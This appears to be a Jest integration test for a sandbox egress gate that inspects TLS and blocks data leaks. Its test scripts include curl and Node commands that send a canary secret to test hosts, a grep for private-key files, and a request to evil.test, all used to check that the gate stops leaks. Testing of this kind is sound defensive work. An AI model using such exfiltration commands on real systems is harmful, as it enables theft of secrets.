import { createHash } from 'node:crypto'
import { copyFileSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals'
import type { Summary } from '../../src/evidence/summary.ts'
import { presentGates } from '../support/gates.ts'
import { clientPrograms } from '../support/hosts/https-clients.ts'
import { type Hit, type Internet, openInternet } from '../support/hosts/internet.ts'
import { leftovers } from '../support/leftovers.ts'
import { startRunner } from '../support/runner/runner.ts'

jest.setTimeout(180_000)

const project = resolve(import.meta.dirname, '../..')
const pipelock = (await presentGates()).find(gate => gate.name === 'pipelock')
const clientsImage = 'bottle-test/clients:1'
const secret = `Canary-${createHash('sha256').update(`tls ${process.pid}`).digest('hex').slice(0, 24)}`

let internet: Internet
beforeAll(async () => {
  internet = await openInternet([
    { role: 'listener', names: ['api.test', 'sub.wild.test', 'wild.test'] },
    { role: 'listener', names: ['pinned.test'] },
    { role: 'forge', names: ['forge.test'] },
    { role: 'registry', names: ['packages.test'] },
  ])
})
afterAll(async () => internet?.[Symbol.asyncDispose]())

interface Wish {
  readonly run: string
  readonly tls?: string
  readonly more?: string
  readonly upstream?: boolean
  readonly image?: string
  readonly onLine?: (line: string, temp: string) => void
}

/** One run with TLS as the spec says; what it said, and the requests that reached each host. */
async function lived({ run, tls = 'inspect: true', more = '', upstream = true, image = clientsImage, onLine }: Wish) {
  await using runner = await startRunner(project)
  mkdirSync(join(runner.workspace, 'certs'))
  copyFileSync(internet.authority, join(runner.workspace, 'certs/test-ca.pem'))
  for (const [name, text] of Object.entries(clientPrograms)) writeFileSync(join(runner.workspace, name), text)
  const spec = `egress:
  defaults: false
  allowlist: [api.test, '*.wild.test', pinned.test, forge.test, packages.test]
  tls: {${tls}${upstream ? ', upstream-ca: certs/test-ca.pem' : ''}}
${more}`
  const names = ['api.test', 'pinned.test', 'forge.test', 'packages.test']
  const requests = async () =>
    Promise.all(names.map(async name => (await internet.hits(name)).filter(hit => hit.kind === 'request')))
  const before = await requests()
  const step = runner.step({
    with: { ...pipelock?.inputs, image, spec, run, secrets: 'SECRET' },
    env: { SECRET: secret },
  })
  const main = await step.main(onLine ? { onLine: line => onLine(line, runner.temp) } : {})
  const after = await requests()
  const seen = Object.fromEntries(names.map((name, i) => [name, (after[i] ?? []).slice(before[i]?.length)]))
  const evidence = main.outputs['evidence-path'] ?? ''
  const kept = readdirSync(evidence).map(name => readFileSync(join(evidence, name), 'utf8'))
  const summary = JSON.parse(readFileSync(join(evidence, 'summary.json'), 'utf8')) as Summary
  return { main, said: main.log.join('\n'), seen: seen as Record<string, Hit[]>, kept: kept.join('\n'), summary }
}

// The same secret in a body, in a header, and over HTTP/2, by curl and by Node: to a host that is allowed.
const leaks = `
curl -sS --http1.1 -d "note=$SECRET" https://api.test/leak-body; echo
curl -sS --http1.1 -H "X-Note: $SECRET" https://api.test/leak-header; echo
curl -sS --http2 -d "note=$SECRET" https://api.test/leak-http2; echo
node -e 'fetch("https://api.test/leak-fetch", {method: "POST", body: JSON.stringify({note: process.env.SECRET})}).then(a => console.log(a.status))'
curl -sS https://api.test/harmless
`
const leaked = (hits: readonly Hit[] | undefined) =>
  (hits ?? []).filter(hit => /leak/.test(hit.url ?? '')).map(hit => hit.url)

const suite = pipelock ? describe : describe.skip
suite('TLS inspection with pipelock', () => {
  test('the control: what is not inspected gets a secret through, four times', async () => {
    const trusting = `export CURL_CA_BUNDLE=$PWD/certs/test-ca.pem NODE_EXTRA_CA_CERTS=$PWD/certs/test-ca.pem\n`
    const { main, seen } = await lived({ run: trusting + leaks, tls: 'inspect: false' })
    expect(main.exitCode).toBe(0)
    expect(leaked(seen['api.test'])).toEqual(['/leak-body', '/leak-header', '/leak-http2', '/leak-fetch'])
    expect(main.outputs).toMatchObject({ 'blocked-count': '0', 'dlp-count': '0' })
  })

  test('inspected, none of the four arrives, each is a block of its own, and the rest is let through', async () => {
    let keys: string[] | undefined
    const look = (line: string, temp: string) => {
      if (line.includes('LOOK NOW'))
        keys = filesOf(temp).filter(path => readFileSync(path, 'utf8').includes('PRIVATE KEY'))
    }
    const run = `grep -rlE "PRIVATE[ ]KEY" /bottle || true; ls -l /bottle; echo LOOK NOW; sleep 0.5${leaks}`
    const { main, said, seen, kept } = await lived({ run, onLine: look })
    expect(said).toContain('reached api.test')
    expect(leaked(seen['api.test'])).toEqual([])
    expect(seen['api.test']?.map(hit => hit.url)).toEqual(['/harmless'])
    expect(main.outputs).toMatchObject({
      enforced: 'true',
      'blocked-count': '4',
      'dlp-count': '4',
      'allowed-count': '1',
    })
    // The authority's key: in no file of the host, none of the bottle, and nothing that is kept.
    expect(keys).toEqual([])
    expect(`${main.raw}${kept}`).not.toMatch(/PRIVATE KEY/)
    expect(kept).not.toContain(secret)
    expect(await leftovers(main.outputs['bottle-id'])).toEqual([])
  })

  test('every client trusts it with nothing set, from the image as it is', async () => {
    const clients: Record<string, [command: string, says: RegExp]> = {
      curl: ['curl -sS https://api.test/curl', /reached api\.test/],
      'curl without variables': [
        'env -i https_proxy=$https_proxy curl -sS https://api.test/bare-curl',
        /reached api\.test/,
      ],
      wget: ['env -i https_proxy=$https_proxy wget -qO- https://api.test/wget', /reached api\.test/],
      'openssl s_client': [
        'openssl s_client -proxy "$(echo $https_proxy | cut -c8-)" -connect api.test:443 -servername api.test -x509_strict -verify_return_error </dev/null 2>/dev/null',
        /Verify return code: 0 \(ok\)/,
      ],
      git: [
        'git clone -q https://forge.test/hello.git /tmp/hello && cat /tmp/hello/README.md',
        /A repository for the agent/,
      ],
      'node https and fetch': ['node node-https.js', /node (https|fetch) 200[\s\S]*node (https|fetch) 200/],
      'python urllib, requests, httpx': ['python3 urls.py', /urllib 200\nrequests 200\nhttpx 200/],
      npm: [
        'mkdir /tmp/n; cd /tmp/n; npm install --silent --registry https://packages.test left-shelf && node -p "require(\'left-shelf\')(1)"',
        /\[1\]/,
      ],
      pip: [
        'pip download -q --no-deps --index-url https://api.test/simple/ nothing-there 2>&1',
        /No matching distribution/,
      ],
      java: ['java Get.java 2>&1', /java client 200\njava url 200/],
    }
    const run = Object.entries(clients).map(([name, [command]]) => `echo "=== ${name}"; (${command}) || true`)
    const { main, said, seen } = await lived({ run: run.join('\n'), more: 'hardening: {read-only-root: true}\n' })
    const parts = Object.fromEntries(said.split('=== ').map(part => [part.slice(0, part.indexOf('\n')), part]))
    for (const [name, [, says]] of Object.entries(clients)) expect(parts[name]).toMatch(says)
    const urls = seen['api.test']?.map(hit => hit.url)
    for (const url of ['/curl', '/bare-curl', '/wget', '/urllib', '/requests', '/httpx', '/node-https', '/node-fetch'])
      expect(urls).toContain(url)
    for (const url of ['/simple/nothing-there/', '/java-client', '/java-url']) expect(urls).toContain(url)
    expect(main.outputs).toMatchObject({ 'blocked-count': '0', enforced: 'true' })
  })

  test('who signed what a client sees: the gate, or for `passthrough` the host; that one keeps its secrets', async () => {
    const issuer = (host: string) =>
      `echo "${host} $(openssl s_client -proxy "\${https_proxy#http://}" -connect ${host}:443 -servername ${host} </dev/null 2>/dev/null | openssl x509 -noout -issuer)"`
    const run = `${issuer('api.test')}\n${issuer('pinned.test')}\n${issuer('sub.wild.test')}\n${issuer('wild.test')}
curl -sS -d "note=$SECRET" https://pinned.test/leak; curl -sS https://evil.test/ || true`
    const { main, said, seen } = await lived({ run, tls: "inspect: true, passthrough: [pinned.test, '*.wild.test']" })
    expect(said).toContain(`api.test issuer=CN = Bottle ${main.outputs['bottle-id']}`)
    for (const host of ['pinned.test', 'sub.wild.test', 'wild.test'])
      expect(said).toContain(`${host} issuer=CN = Bottle test authority`)
    expect(leaked(seen['pinned.test'])).toEqual(['/leak'])
    expect(main.outputs).toMatchObject({ 'dlp-count': '0', 'blocked-hosts': '["evil.test"]' })
  })

  test('a client that accepts no other authority fails, and is told of `passthrough`', async () => {
    const own = ' --cacert certs/test-ca.pem https://pinned.test/pinned'
    const node = `node -e 'require("https").get("https://pinned.test/pinned").on("error", () => process.exit(1))'`
    const run = `set +e
curl -sS --tls-max 1.2${own}; NODE_EXTRA_CA_CERTS=certs/test-ca.pem ${node}; curl -sS${own}`
    const [failed, passed] = [
      await lived({ run }),
      await lived({ run, tls: 'inspect: true, passthrough: [pinned.test]' }),
    ]
    expect(failed.main.exitCode).toBe(60)
    expect(failed.seen['pinned.test']).toEqual([])
    const advice = "A client refused the gate's certificate for pinned.test: add pinned.test to egress.tls.passthrough."
    expect(failed.said).toContain(advice)
    expect(failed.summary.distrust).toEqual([{ host: 'pinned.test', by: 'client', count: 3 }])
    expect(failed.main.summary).toContain('pinned.test to egress.tls.passthrough')
    expect(failed.main.outputs).toMatchObject({ 'blocked-count': '0', 'allowed-count': '0' })
    expect(passed.main.exitCode).toBe(0)
    expect(passed.seen['pinned.test']?.map(hit => hit.url)).toEqual(['/pinned', '/pinned', '/pinned'])
    expect(passed.said).not.toContain('egress.tls.passthrough')
  })

  test('a client that compares keys hangs up in silence: the report names `passthrough` all the same', async () => {
    const key = 'sha256//AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA='
    const { main, said, seen } = await lived({ run: `curl -sS --pinnedpubkey ${key} https://pinned.test/pinned` })
    expect(main.exitCode).toBe(90)
    expect(seen['pinned.test']).toEqual([])
    expect(said).toContain('a client that pins certificates needs its hosts in egress.tls.passthrough')
  })

  test('a host whose authority the gate does not know is not reached; `upstream-ca` is named', async () => {
    const { main, said, seen } = await lived({ run: 'curl -sSf https://api.test/unknown', upstream: false })
    expect(main.exitCode).toBe(22)
    expect(seen['api.test']).toEqual([])
    expect(said).toContain('The gate refused the certificate of api.test: name its authority in egress.tls.upstream-ca')
  })

  test('an image without any roots gets those of Mozilla, and ours', async () => {
    const run =
      'grep -c BEGIN /etc/ssl/certs/ca-certificates.crt; grep -c BEGIN "$SSL_CERT_FILE"; grep -c BEGIN /bottle/ca.pem'
    const { said } = await lived({ run, image: 'bottle-test/tiny:1' })
    const [store, variable, added] = [...said.matchAll(/^(\d+)$/gm)].map(match => Number(match[1]))
    expect(store).toBe(variable)
    expect(store).toBeGreaterThan(100)
    expect(added).toBe(2)
  })
})

function filesOf(folder: string): string[] {
  return readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .map(name => join(folder, name))
    .filter(path => statSync(path).isFile())
}
